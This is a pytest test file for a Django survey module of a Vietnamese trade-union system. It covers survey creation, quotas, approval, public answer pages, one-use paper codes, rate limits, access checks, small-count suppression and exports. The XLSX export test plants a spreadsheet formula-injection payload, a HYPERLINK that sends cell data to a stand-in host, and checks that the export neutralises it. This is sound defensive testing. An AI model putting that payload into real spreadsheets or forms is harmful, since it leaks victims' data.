"""The survey screens end to end: a province creates a survey from the template with 700/300
quota cells allocated to two upper-level unions, approves and opens it; workers answer on the
public page of their unit; officers key paper sheets with codes (a reused code refused); the
progress, results, cross-tab and exports agree with a hand count; outsiders get 404."""

from __future__ import annotations

import csv
import io
import re
import zipfile

import openpyxl
import pytest
from django.core.cache import cache
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from lantoa.core import accesslog, tabular
from lantoa.surveys import exports
from lantoa.surveys.models import Answer, QuotaAllocation, QuotaCell, Response, Survey, SurveyCode
from lantoa.surveys.services import codes_generate, response_submit
from lantoa.units.models import Unit, UnitKind
from lantoa.units.services import unit_create
from tests.conftest import login
from tests.surveys.support import answers, open_survey

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _fresh_limits():
    cache.clear()
    yield
    cache.clear()


def _post_sheet(client, url, sheet, **extra):
    data: dict = {}
    for code, value in sheet.items():
        if isinstance(value, dict):
            for row, v in value.items():
                data[f"{code}.{row}"] = v
        else:
            data[code] = value
    data.update(extra)
    return client.post(url, data)


def test_province_creates_allocates_approves_and_collects(client, tree, officers):
    author, leader = officers.a_propaganda, officers.a_leader
    login(client, author)
    page = client.get(reverse("surveys:new", kwargs={"code": tree.pa.code}))
    assert page.status_code == 200 and "Bắt đầu từ" in page.content.decode()
    created = client.post(
        reverse("surveys:new", kwargs={"code": tree.pa.code}),
        {
            "template_key": "doi-song-y-kien",
            "title": "Khảo sát đời sống người lao động 2026",
            "audience": "subtree",
            "anonymous": "on",
            "sample_size": "1000",
        },
    )
    survey = Survey.objects.get()
    assert created.status_code == 302 and created["Location"] == survey.get_absolute_url()
    cells = list(QuotaCell.objects.filter(survey=survey).order_by("position"))
    assert [c.target for c in cells] == [700, 300]
    # A second upper-level union beside A-KCN: A-XA. Province shares 700/300 out to both.
    quotas_url = reverse("surveys:quotas", kwargs={"pk": survey.pk})
    for cell, (kcn, xa) in zip(cells, [(500, 200), (100, 200)], strict=True):
        saved = client.post(
            quotas_url, {"cell": cell.pk, f"u{tree.a_kcn.pk}": kcn, f"u{tree.a_xa.pk}": xa}
        )
        assert saved.status_code == 302
    assert QuotaAllocation.objects.filter(cell__survey=survey).count() == 4
    too_much = client.post(
        quotas_url, {"cell": cells[1].pk, f"u{tree.a_kcn.pk}": 250, f"u{tree.a_xa.pk}": 200}
    )
    assert too_much.status_code == 302
    assert QuotaAllocation.objects.get(cell=cells[1], unit=tree.a_kcn).target == 100

    action = lambda name: reverse("surveys:action", kwargs={"pk": survey.pk, "action": name})  # noqa: E731
    client.post(action("gui-duyet"))
    client.post(action("duyet"))  # the author may not approve
    survey.refresh_from_db()
    assert survey.status == "submitted"
    login(client, leader)
    client.post(action("duyet"))
    login(client, author)
    client.post(action("mo"))
    survey.refresh_from_db()
    assert survey.status == "open"
    detail = client.get(survey.get_absolute_url()).content.decode()
    assert f"/khao-sat/{survey.slug}/{tree.pa.code}/" in detail
    qr = client.get(reverse("surveys:qr", kwargs={"pk": survey.pk, "unit_code": tree.a_g1.code}))
    assert qr.status_code == 200 and qr["Content-Type"] == "image/svg+xml"
    assert b"<svg" in qr.content


def test_public_page_takes_a_sheet_for_its_unit_and_shows_errors(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    url = reverse(
        "surveys_public:respond", kwargs={"slug": survey.slug, "unit_code": tree.a_g1.code}
    )
    page = client.get(url, HTTP_USER_AGENT="Mozilla/5.0 (iPhone)")
    html = page.content.decode()
    assert page.status_code == 200
    assert "không lưu họ tên, số điện thoại, địa chỉ IP" in html
    assert "<script" in html and "http" not in html.split("survey.js")[0].rsplit("<script", 1)[1]
    bad = _post_sheet(client, url, answers(A1=None, A2="200"))
    assert bad.status_code == 400
    text = bad.content.decode()
    assert "Vui lòng trả lời câu A1." in text and "từ 15 đến 75" in text
    assert not Response.objects.exists()
    good = _post_sheet(client, url, answers(), REMOTE_ADDR="10.9.8.7")
    assert good.status_code == 302
    response = Response.objects.get()
    assert response.unit == tree.a_g1 and response.channel == "web"
    # Nothing about the person: no address in any column of the response.
    values = {str(v) for v in Response.objects.values().get().values()}
    assert "10.9.8.7" not in values
    thanks = client.get(good["Location"])
    assert "Cảm ơn bạn" in thanks.content.decode()


def test_public_page_of_a_unit_outside_or_a_draft_is_404(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    outside = reverse(
        "surveys_public:respond", kwargs={"slug": survey.slug, "unit_code": tree.b_g1.code}
    )
    assert client.get(outside).status_code == 404
    from lantoa.surveys.services import survey_create

    draft = survey_create(unit=tree.pa, title="Nháp", actor=officers.a_propaganda)
    url = reverse("surveys_public:respond", kwargs={"slug": draft.slug, "unit_code": tree.pa.code})
    assert client.get(url).status_code == 404


def test_public_form_is_rate_limited(client, tree, officers, settings):
    settings.LANTOA_SURVEY_LIMIT_PER_IP = 2
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    url = reverse(
        "surveys_public:respond", kwargs={"slug": survey.slug, "unit_code": tree.a_g1.code}
    )
    codes = [_post_sheet(client, url, answers()).status_code for _ in range(3)]
    assert codes == [302, 302, 429]
    assert Response.objects.count() == 2


def test_paper_entry_with_codes_refuses_a_reused_code(client, tree, officers):
    survey = open_survey(
        tree.pa, officers.a_propaganda, officers.a_leader, anonymous=True, codes_required=True
    )
    login(client, officers.a_communicator)  # at A-KCN: keys sheets for its subtree
    codes_url = reverse("surveys:codes", kwargs={"pk": survey.pk}) + f"?don-vi={tree.a_kcn.code}"
    made = client.post(codes_url, {"unit": tree.a_g1.code, "count": "2"})
    assert made.status_code == 302
    first, second = SurveyCode.objects.filter(survey=survey).order_by("number")
    printed = client.get(
        reverse("surveys:codes_print", kwargs={"pk": survey.pk, "unit_code": tree.a_g1.code})
        + f"?don-vi={tree.a_kcn.code}"
    )
    assert first.code in printed.content.decode()
    entry_url = reverse("surveys:entry", kwargs={"pk": survey.pk}) + f"?don-vi={tree.a_kcn.code}"
    form = client.get(entry_url).content.decode()
    assert 'name="C2.1"' in form and 'name="code"' in form
    ok = _post_sheet(client, entry_url, answers(), unit=tree.a_g1.code, code=first.code)
    assert ok.status_code == 302
    again = _post_sheet(client, entry_url, answers(), unit=tree.a_g1.code, code=first.code)
    assert again.status_code == 200 and "đã được dùng" in again.content.decode()
    ok2 = _post_sheet(client, entry_url, answers(A1="1"), unit=tree.a_g1.code, code=second.code)
    assert ok2.status_code == 302
    assert Response.objects.filter(channel="paper").count() == 2
    assert set(Response.objects.values_list("code", flat=True)) == {None}


def test_outsiders_get_404_and_a_lower_unit_sees_its_subtree(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    login(client, officers.b_admin)
    for name in ("surveys:detail", "surveys:progress", "surveys:results", "surveys:quotas"):
        assert client.get(reverse(name, kwargs={"pk": survey.pk})).status_code == 404
    assert client.get(reverse("surveys:unit", kwargs={"code": tree.pa.code})).status_code == 404
    login(client, officers.a_viewer)  # at A-G1
    page = client.get(reverse("surveys:progress", kwargs={"pk": survey.pk}))
    assert page.status_code == 200 and tree.a_g1.name in page.content.decode()
    assert client.get(reverse("surveys:unit", kwargs={"code": tree.a_g1.code})).status_code == 200
    other = client.get(reverse("surveys:progress", kwargs={"pk": survey.pk}) + "?don-vi=A-G2")
    assert other.status_code == 404


def _filled(survey, tree, n_g1=12, n_g2=3, n_xa=11):
    for i in range(n_g1):
        response_submit(
            survey=survey, unit=tree.a_g1, answers=answers(A1="2" if i % 3 else "1", D1="4")
        )
    for _ in range(n_g2):
        response_submit(survey=survey, unit=tree.a_g2, answers=answers(A1="1", D1="5"))
    for i in range(n_xa):
        response_submit(
            survey=survey, unit=tree.a_g3, answers=answers(A1="2", D1="3" if i < 10 else "2")
        )


def test_results_crosstab_and_suppression_agree_with_a_hand_count(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    _filled(survey, tree)
    login(client, officers.a_propaganda)
    url = reverse("surveys:results", kwargs={"pk": survey.pk})
    html = client.get(url).content.decode()
    assert "26 phiếu" in html
    # Cross-tab of A1 (sex) by unit: A-KCN has 12 + 3 = 15 (men 4 + 3 = 7 → "<10",
    # women 8 → "<10"), A-XA 11 women, 0 men.
    cross = client.get(url, {"cau": "A1", "theo": "don-vi"}).context["crosstab"]
    rows = {label: (cells, total) for label, cells, total in cross.rows}
    assert rows[tree.a_kcn.name] == ([None, None], 15)
    assert rows[tree.a_xa.name] == ([0, 11], 11)  # nobody is no one to recognise
    # By question: D1 (rating) × A1: women who said "Tốt" (4): 8 in A-G1 → suppressed.
    by_q = client.get(url, {"cau": "A1", "theo": "D1"}).context["crosstab"]
    d1 = {label: cells for label, cells, _total in by_q.rows}
    assert d1["Bình thường"] == [0, 10]  # 10 women in A-G3 rated 3, no man
    assert d1["Tốt"] == [None, None]  # 4 men, 8 women
    # Per question: A1 has 26 answers: men 7 (suppressed), women 19 (73,1%).
    a1 = next(r for r in client.get(url).context["results"] if r.question.code == "A1")
    assert [r.count for r in a1.rows] == [None, 19]
    assert round(a1.rows[1].share, 3) == round(19 / 26, 3)
    # From A-G2 (3 sheets) everything is suppressed.
    login(client, officers.a_admin)
    small = client.get(url + f"?don-vi={tree.a_g2.code}")
    a1_small = next(r for r in small.context["results"] if r.question.code == "A1")
    assert a1_small.suppressed and a1_small.answered is None


def test_exports_csv_and_xlsx_with_codebook(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    _filled(survey, tree)
    login(client, officers.a_propaganda)
    csv_resp = client.get(reverse("surveys:export", kwargs={"pk": survey.pk, "fmt": "csv"}))
    text = b"".join(csv_resp.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert len(body) == 26
    assert {"A1", "D2_1", "D2_3", "C2_1", "B4_khac"} <= set(header)
    a1 = header.index("A1")
    assert sorted(r[a1] for r in body).count("2") == 19
    d2_1, d2_2 = header.index("D2_1"), header.index("D2_2")
    assert {(r[d2_1], r[d2_2]) for r in body} == {("1", "0")}
    # Anonymous: A-G2 has 3 sheets, so its rows do not show the unit.
    unit_col = header.index("Mã đơn vị")
    assert sorted({r[unit_col] for r in body}) == ["", "A-G1", "A-G3"]
    xlsx = client.get(reverse("surveys:export", kwargs={"pk": survey.pk, "fmt": "xlsx"}))
    book = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)), read_only=True)
    assert book.sheetnames == ["Phiếu trả lời", "Sổ mã"]
    data = list(book["Phiếu trả lời"].iter_rows(values_only=True))
    assert len(data) == 27 and data[0][a1] == "A1"
    assert sum(1 for r in data[1:] if r[a1] == 2) == 19
    codebook = list(book["Sổ mã"].iter_rows(values_only=True))
    assert ("A1", "Giới tính của bạn", "Chọn một", 1, "Nam") in codebook
    from lantoa.audit.models import AuditEvent

    assert AuditEvent.objects.filter(action="survey.export").count() == 2
    login(client, officers.a_viewer)  # no "data.export"
    assert (
        client.get(reverse("surveys:export", kwargs={"pk": survey.pk, "fmt": "csv"})).status_code
        == 403
    )


def test_xlsx_export_streams_typed_cells_and_keeps_written_answers_inert(client, tree, officers):
    """The XLSX leaves as a stream while the responses are read (issue 16), with the values
    and types of the CSV: numbers as numbers, dates written the Vietnamese way, Vietnamese
    text intact, a worker's formula-like answer as marked text, control characters gone."""
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader, anonymous=False)
    payload = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
    for i in range(3):
        response_submit(
            survey=survey,
            unit=tree.a_g1,
            answers=answers(
                A2=str(30 + i),
                D5="2026-03-05",
                E1=payload if i == 0 else "Tăng lương tối thiểu vùng",
                E2="Nhà trọ chật,\x07 bữa ăn ca\x1b chưa bảo đảm" if i == 0 else None,
            ),
        )
    # Nothing of the responses is read before the first bytes go out.
    response = exports.xlsx_response(survey, tree.pa)
    assert response.streaming and response["Content-Type"] == tabular.XLSX_TYPE
    assert response["Content-Disposition"].endswith('.xlsx"')
    chunks = iter(response.streaming_content)
    with CaptureQueriesContext(connection) as queries:
        first = next(chunks)
    assert first.startswith(b"PK\x03\x04")
    assert not any("surveys_answer" in q["sql"] for q in queries.captured_queries)
    data = first + b"".join(chunks)
    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None

    book = openpyxl.load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Phiếu trả lời", "Sổ mã"]
    sheet = book["Phiếu trả lời"]
    assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])
    header = [c.value for c in sheet[1]]
    col = {name: header.index(name) for name in ("Đơn vị", "A1", "A2", "D2_1", "D5", "E1", "E2")}
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == 3
    first_row = rows[0]
    assert first_row[col["Đơn vị"]].value == tree.a_g1.name
    assert (first_row[col["A1"]].value, first_row[col["A1"]].data_type) == (2, "n")
    assert sorted(r[col["A2"]].value for r in rows) == [30, 31, 32]
    assert first_row[col["D2_1"]].value == 1
    assert first_row[col["D5"]].value == "05/03/2026"  # as in the CSV
    e1 = first_row[col["E1"]]
    assert (e1.value, e1.data_type, e1.quotePrefix) == (payload, "s", True)
    assert first_row[col["E2"]].value == "Nhà trọ chật, bữa ăn ca chưa bảo đảm"
    assert not rows[1][col["E1"]].quotePrefix
    assert rows[1][col["E2"]].value is None
    codebook = list(book["Sổ mã"].iter_rows(values_only=True))
    assert ("A1", "Giới tính của bạn", "Chọn một", 1, "Nam") in codebook
    # The same rows as the CSV, cell for cell (the CSV writes numbers as text, keeps the
    # control characters and guards with an apostrophe).
    text = b"".join(exports.csv_response(survey, tree.pa).streaming_content).decode("utf-8-sig")
    from_csv = [
        [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c.removeprefix("'")) for c in r]
        for r in csv.reader(io.StringIO(text))
    ]
    from_xlsx = [["" if c.value is None else str(c.value) for c in r] for r in sheet.iter_rows()]
    assert from_xlsx == from_csv


def test_question_editing_while_draft(client, tree, officers):
    login(client, officers.a_propaganda)
    client.post(
        reverse("surveys:new", kwargs={"code": tree.pa.code}),
        {"title": "Thăm dò nhanh", "audience": "subtree", "anonymous": "on"},
    )
    survey = Survey.objects.get()
    new_url = reverse("surveys:question_new", kwargs={"pk": survey.pk})
    bad = client.post(new_url, {"code": "1x", "kind": "single", "text": "Câu?", "options": "Có"})
    assert bad.status_code == 200
    errors = bad.context["form"].errors
    assert "code" in errors and "options" in errors
    ok = client.post(
        new_url,
        {
            "code": "Q1",
            "kind": "single",
            "text": "Bạn có biết về Tháng Công nhân?",
            "options": "Có | Yes\nKhông | No",
            "required": "on",
        },
    )
    assert ok.status_code == 302
    q = survey.current_version().questions.get()
    assert q.options == [
        {"value": "1", "label": "Có", "label_en": "Yes"},
        {"value": "2", "label": "Không", "label_en": "No"},
    ]


def test_work_link_on_the_unit_page(client, tree, officers):
    login(client, officers.a_propaganda)
    page = client.get(reverse("units:detail", kwargs={"code": tree.pa.code}))
    assert reverse("surveys:unit", kwargs={"code": tree.pa.code}) in page.content.decode()


def test_a_unit_merged_below_still_counts(tree, officers):
    """A grassroots union created after the survey opened collects too (closure table)."""
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    new = unit_create(
        code="A-G9", name="Công đoàn cơ sở Công ty mới", kind=UnitKind.GRASSROOTS, parent=tree.a_kcn
    )
    response_submit(survey=survey, unit=Unit.objects.get(pk=new.pk), answers=answers())
    code = codes_generate(survey=survey, unit=new, count=1, actor=officers.a_propaganda)[0]
    assert code.unit == new


def test_the_public_page_in_english_asks_the_english_wording(client, tree, officers, settings):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
    url = reverse(
        "surveys_public:respond", kwargs={"slug": survey.slug, "unit_code": tree.a_g1.code}
    )
    html = client.get(url).content.decode()
    assert "How your information is kept" in html
    assert "Which sector is your workplace in?" in html and "Part A. About you" in html
    assert "Very satisfied" in html  # the matrix's scale
    refused = _post_sheet(client, url, answers(A1=None))
    assert "Please answer question A1." in refused.content.decode()


def _unit_survey(tree, officers, unit=None):
    """An open survey of ``unit`` (the industrial zone of province A) asking the worker's
    union (a required unit question), and its public page on the zone's link."""
    from lantoa.surveys.services import (
        question_add,
        survey_approve,
        survey_create,
        survey_open,
        survey_submit,
    )

    author = officers.a_propaganda
    survey = survey_create(unit=unit or tree.a_kcn, title="Nơi làm việc", actor=author)
    question_add(
        survey=survey,
        actor=author,
        code="U1",
        kind="unit",
        text="Công đoàn cơ sở của bạn",
        required=True,
    )
    survey_submit(survey=survey, actor=author)
    survey_approve(survey=survey, actor=officers.a_leader)
    survey_open(survey=survey, actor=author)
    where = {"slug": survey.slug, "unit_code": survey.unit.code}
    return survey, reverse("surveys_public:respond", kwargs=where)


def test_a_unit_question_is_a_searched_box_and_refuses_others(client, tree, officers):
    survey, url = _unit_survey(tree, officers)
    search = reverse(
        "surveys_public:units", kwargs={"slug": survey.slug, "unit_code": tree.a_kcn.code}
    )
    html = client.get(url).content.decode()
    assert f'data-unit-picker="{search}"' in html and 'name="U1_q"' in html
    assert "unit-picker.js" in html and "<select" not in html
    assert tree.a_g2.name not in html  # searched, never listed
    assert "chữ bạn gõ chỉ dùng để tìm ngay lúc đó" in html  # the privacy note tells it
    # Another province's union: by a crafted id, or by its name typed.
    assert client.post(url, {"U1": str(tree.b_g1.pk)}).status_code == 400
    typed = client.post(url, {"U1_q": "Giày Đức Thành"})
    assert typed.status_code == 400
    assert "Không tìm thấy đơn vị nào khớp với “Giày Đức Thành”" in typed.content.decode()
    # A union of the province, outside the survey's zone, is refused too.
    assert client.post(url, {"U1_q": tree.a_g3.code}).status_code == 400
    assert client.post(url, {"U1": str(tree.a_g3.pk)}).status_code == 400
    assert not Response.objects.exists()
    # Picked from the suggestions (the script sends the id), or its code typed in full.
    assert client.post(url, {"U1_q": "x", "U1": str(tree.a_g2.pk)}).status_code == 302
    assert client.post(url, {"U1_q": "a-g1"}).status_code == 302
    assert sorted(a.choice for a in Answer.objects.all()) == [tree.a_g1.code, tree.a_g2.code]


def test_a_unit_question_without_javascript_search_then_choose(client, tree, officers):
    _survey, url = _unit_survey(tree, officers, unit=tree.pa)
    asked = client.post(url, {"U1_q": "My Binh"})
    page = asked.content.decode()
    assert asked.status_code == 400 and "Có nhiều đơn vị khớp với “My Binh”" in page
    assert tree.a_xa.name in page and tree.a_g3.name in page
    assert not Response.objects.exists()
    # The phone's queue (survey.js) gets the errors, then posts the page to show them.
    queued = client.post(url, {"U1_q": "My Binh"}, headers={"X-Survey-Queue": "1"})
    assert queued.status_code == 400 and queued.json()["final"] is True
    assert "U1" in queued.json()["errors"]
    chosen = client.post(url, {"U1_q": "My Binh", "U1": str(tree.a_g3.pk)})
    assert chosen.status_code == 302
    assert Answer.objects.get().choice == tree.a_g3.code
    # Nothing typed: the questionnaire's own rule (required) answers.
    empty = client.post(url, {})
    assert empty.status_code == 400 and "U1" in empty.content.decode()


def test_the_unit_search_stays_in_the_survey_and_is_limited(client, tree, officers, settings):
    survey, _url = _unit_survey(tree, officers)
    search = reverse(
        "surveys_public:units", kwargs={"slug": survey.slug, "unit_code": tree.a_kcn.code}
    )
    assert search == f"/khao-sat/{survey.slug}/{tree.a_kcn.code}/don-vi/"
    assert accesslog.is_private(search)  # logged without address nor query
    found = client.get(search, {"q": "dien tu DONG a"}).json()["results"]  # đ → d
    assert [r["id"] for r in found] == [tree.a_g2.pk]
    assert client.get(search, {"q": "Điện tử Đông Á"}).json()["results"][0]["id"] == tree.a_g2.pk
    assert client.get(search, {"q": "my binh"}).json() == {"results": []}  # outside the zone
    assert client.get(search, {"q": "giay duc thanh"}).json() == {"results": []}
    assert client.get(search, {"q": tree.b_g1.code}).json() == {"results": []}
    outside = reverse(
        "surveys_public:units", kwargs={"slug": survey.slug, "unit_code": tree.b_g1.code}
    )
    assert client.get(outside, {"q": "giay"}).status_code == 404
    # A few searches a sheet per address, then 429 for a while; another address goes on.
    settings.LANTOA_SURVEY_LIMIT_PER_IP = 1
    cache.clear()
    for _i in range(10):
        assert client.get(search, {"q": "anh duong"}).status_code == 200
    refused = client.get(search, {"q": "anh duong"})
    assert refused.status_code == 429 and refused["Retry-After"] == "60"
    assert "vui lòng đợi vài giây" in refused.json()["error"]
    assert client.get(search, {"q": "anh duong"}, REMOTE_ADDR="198.51.100.9").status_code == 200
    assert not Response.objects.exists()


def test_copy_button_only_for_who_may_copy(client, tree, officers):
    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader)
    copy_url = reverse("surveys:action", kwargs={"pk": survey.pk, "action": "sao-chep"})
    login(client, officers.a_viewer)
    assert copy_url not in client.get(survey.get_absolute_url()).content.decode()
    assert client.post(copy_url).status_code == 403
    login(client, officers.a_propaganda)
    assert copy_url in client.get(survey.get_absolute_url()).content.decode()
    copied = client.post(copy_url)
    copy = Survey.objects.exclude(pk=survey.pk).get()
    assert copied["Location"] == copy.get_absolute_url() and copy.copied_from == survey
